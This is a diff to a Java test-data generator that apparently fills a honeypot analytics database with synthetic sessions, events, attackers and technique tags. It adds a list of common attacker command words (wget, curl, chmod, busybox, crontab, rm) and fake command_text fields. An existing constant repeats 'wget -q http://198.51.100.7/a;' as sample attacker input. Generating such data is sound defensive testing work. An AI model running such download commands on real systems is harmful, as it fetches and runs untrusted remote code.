@@ -36,9 +36,14 @@ public record ManyTags(long tags) {
   private static final int DECKIES = 20;
   private static final int TACTICS = 12;
   private static final String COMMAND = "wget -q http://198.51.100.7/a; ".repeat(48);
+  private static final int RARE_WORDS = 5000;
   private static final int STEP = 10_000;
   private static final List<String> KINDS =
       List.of("command", "auth_attempt", "connection", "file", "canary_trigger");
+
+  /** Words that many commands have. */
+  public static final List<String> WORDS =
+      List.of("wget", "chmod", "uname", "cat", "curl", "busybox", "crontab", "rm");
 
   /** One row of a table. */
   private interface Binder {
@@ -80,6 +85,16 @@ public record ManyTags(long tags) {
     return id(3, number);
   }
 
+  /** A tag. */
+  public static UUID tag(long number) {
+    return id(5, number);
+  }
+
+  /** An event. */
+  public static UUID event(long number) {
+    return id(4, number);
+  }
+
   /** Id of a session; the session of a number is of the attacker whose share of tags it lies in. */
   public static String session(long number) {
     return "sensor-1:" + Long.toHexString(mix(number));
@@ -104,7 +119,7 @@ public record ManyTags(long tags) {
               2, "2001:db8::" + Long.toHexString(i >> 16) + ":" + Long.toHexString(i & 0xffff));
           row.setString(3, identity(i / ATTACKERS_OF_IDENTITY % identities()).toString());
           row.setLong(4, FIRST);
-          row.setLong(5, time(1));
+          row.setLong(5, time(share(i, 8)));
           row.setLong(6, time(1));
         });
     clusters(connection);
@@ -183,7 +198,7 @@ public record ManyTags(long tags) {
         13,
         sessions(),
         (row, i) -> {
-          row.setString(1, id(4, i).toString());
+          row.setString(1, event(i).toString());
           row.setString(2, KINDS.get((int) (i % KINDS.size())));
           row.setLong(3, time(share(i, 5)));
           row.setLong(4, time(1));
@@ -195,7 +210,7 @@ public record ManyTags(long tags) {
           row.setString(10, session(i));
           row.setString(11, attacker(attackerOf(i)).toString());
           row.setString(12, "interaction");
-          row.setString(13, "{}");
+          row.setString(13, fields(i));
         });
     rows(
         connection,
@@ -204,7 +219,7 @@ public record ManyTags(long tags) {
         sessions() / KINDS.size(),
         (row, i) -> {
           long event = i * KINDS.size();
-          row.setString(1, id(4, event).toString());
+          row.setString(1, event(event).toString());
           row.setString(2, session(event));
           row.setString(3, attacker(attackerOf(event)).toString());
           row.setString(4, decky(event));
@@ -226,9 +241,9 @@ public record ManyTags(long tags) {
           long session = i / TAGS_OF_SESSION % sessions();
           int technique = (int) (TECHNIQUES * Math.pow(share(i, 6), 2));
           String id = "T" + (1000 + technique);
-          row.setString(1, id(5, i).toString());
+          row.setString(1, tag(i).toString());
           row.setString(2, KINDS.get((int) (session % KINDS.size())));
-          row.setString(3, id(4, session).toString());
+          row.setString(3, event(session).toString());
           row.setString(4, attacker(attackerOf(session)).toString());
           row.setString(5, session(session));
           row.setString(6, decky(session));
@@ -267,6 +282,23 @@ public record ManyTags(long tags) {
   /** Most sessions are of few attackers: the share of the first n grows with the cube root of n. */
   private long attackerOf(long session) {
     return (long) (attackers() * Math.pow(share(session, 7), 3));
+  }
+
+  /** What a command says: a frequent word and a rare one. */
+  private static String fields(long number) {
+    if (number % KINDS.size() != 0) {
+      return "{}";
+    }
+    return "{\"command_text\":\""
+        + WORDS.get((int) (WORDS.size() * share(number, 9)))
+        + " /tmp/"
+        + rareWord(number)
+        + "\"}";
+  }
+
+  /** A word of few commands. */
+  public static String rareWord(long number) {
+    return "w" + mix(number) % RARE_WORDS;
   }
 
   private static String decky(long number) {
